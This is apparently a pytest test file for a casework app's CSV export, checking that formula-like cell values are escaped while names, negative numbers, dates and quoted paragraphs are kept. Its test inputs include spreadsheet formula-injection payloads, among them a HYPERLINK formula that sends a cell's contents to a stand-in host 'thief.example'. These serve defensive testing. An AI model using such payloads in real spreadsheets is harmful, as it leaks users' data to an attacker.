"""What leaves for a spreadsheet is shown there, and never calculated."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from app.casework.csv_table import csv_table


def read(table: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        '=HYPERLINK("http://thief.example/?"&A1,"Amina")',
        "+44 7700 900123",
        "-2+3",
        "@SUM(A1)",
        "\tcmd",
        "\r=1",
        "\n=1",
        " =1+1",
        "\u00a0=1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "|calc",
        "-1+1",
        "-1%0",
        "--1",
        "-١",
    ],
)
def test_a_name_that_looks_like_a_formula_stays_a_name(name):
    [_, [cell]] = read(csv_table(["Family"], [[name]]))

    assert cell == f"'{name}"


@pytest.mark.parametrize(
    "name", ["Okonkwo", "O'Brien", "Amina = Mina", "فاطمة", "王小明", "Siân", ""]
)
def test_an_ordinary_name_is_left_as_it_is(name):
    [_, [cell]] = read(csv_table(["Family"], [[name]]))

    assert cell == name


def test_a_heading_is_held_to_the_same():
    assert read(csv_table(["=A1"], [])) == [["'=A1"]]


def test_numbers_can_still_be_added_up_and_days_sorted():
    row = [-3, 66.6, date(2018, 9, 21), datetime(2018, 9, 21, 9, 30, tzinfo=UTC), None]
    table = csv_table(["a", "b", "c", "d", "e"], [row])

    assert read(table)[1] == ["-3", "66.6", "2018-09-21", "2018-09-21T09:30:00+00:00", ""]


def test_quotes_commas_and_paragraphs_come_back_whole():
    said = 'She said "no", and left.\r\nThen, later: "yes".'

    assert read(csv_table(["Words"], [[said]]))[1] == [said]


def test_excel_is_told_that_it_is_utf_8():
    assert csv_table(["Enw"], [["Siân"]]).startswith(b"\xef\xbb\xbf")


def test_a_row_that_does_not_fit_its_headings_is_refused():
    with pytest.raises(ValueError, match="2 cells under 1"):
        csv_table(["Family"], [["Okonkwo", "open"]])


def test_a_negative_number_is_a_number_and_can_be_calculated_with():
    assert read(csv_table(["Change"], [["-7.5"], ["-13"], ["-4.9%"]]))[1:] == [
        ["-7.5"],
        ["-13"],
        ["-4.9%"],
    ]
